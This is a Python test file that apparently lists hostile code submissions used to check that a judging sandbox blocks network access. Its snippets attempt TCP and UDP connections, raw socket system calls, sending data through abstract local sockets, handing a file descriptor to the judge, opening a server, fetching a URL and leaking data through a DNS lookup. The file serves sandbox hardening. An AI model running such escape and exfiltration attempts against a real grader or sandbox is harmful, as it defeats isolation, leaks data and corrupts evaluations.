"""After the network: to fetch an answer, to send away what was seen."""

from tests.hostile import Hostile

SUBMISSIONS = [
    Hostile(
        "connect_over_tcp",
        "Connects to a server on this machine with Python's own socket.",
        ("import socket\nattempt(socket.create_connection, ('127.0.0.1', @PORT@), 1)",),
        says="there is no network",
        wins_without_walls=False,
    ),
    Hostile(
        "connect_by_system_call",
        "Makes sockets of every family past Python.",
        (
            "for family in (1, 2, 10, 16, 17, 38, 40):\n    for kind in (1, 2, 3):\n        reach('socket', family, kind, 0)",
        ),
        wins_without_walls=True,
    ),
    Hostile(
        "send_over_udp",
        "Sends a datagram with what it saw.",
        (
            "fd = reach('socket', 2, 2, 0)\naddress = b'\\x02\\x00' + (@PORT@).to_bytes(2, 'big') + bytes([127, 0, 0, 1]) + bytes(8)\nreach('sendto', fd, b'seen', 4, 0, address, 16)",
        ),
        wins_without_walls=True,
    ),
    Hostile(
        "datagram_to_a_local_service",
        "Makes a pair of local sockets, which asyncio needs too, and sends from one of them to a service by name.",
        (
            "pair = (ctypes.c_int * 2)()\nprint(libc.socketpair(1, 2, 0, pair))\nname = b'\\x01\\x00\\x00' + b'@ABSTRACT@'\n"
            "reach('sendto', pair[0], b'seen', 4, 0, name, len(name))",
            "import socket\na, b = socket.socketpair()\nname = b'\\x01\\x00\\x00' + b'@ABSTRACT@'\nlibc.sendto.restype = ctypes.c_long\n"
            "sent = libc.sendto(a.fileno(), b'seen', 4, 0, name, len(name))\nprint('no:', sent)",
        ),
    ),
    Hostile(
        "hand_a_descriptor_to_the_judge",
        "Sends an open file to the judge over its own connection.",
        (
            "import socket, array\ns = socket.socket(fileno=os.dup(3))\n"
            "attempt(lambda: s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0]))]))",
        ),
    ),
    Hostile(
        "open_a_server",
        "Waits for connections from outside.",
        ("import socket\nattempt(lambda: socket.create_server(('0.0.0.0', 0)).close())",),
        says="there is no network",
    ),
    Hostile(
        "fetch_a_page",
        "Fetches an answer from the web.",
        ("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@PORT@/')",),
        says="there is no network",
    ),
    Hostile(
        "resolve_a_name",
        "Sends what it saw inside the name of a host that it looks up.",
        ("import socket\nsocket.getaddrinfo('secret.example.org', 80)",),
        says="there is no network",
    ),
]
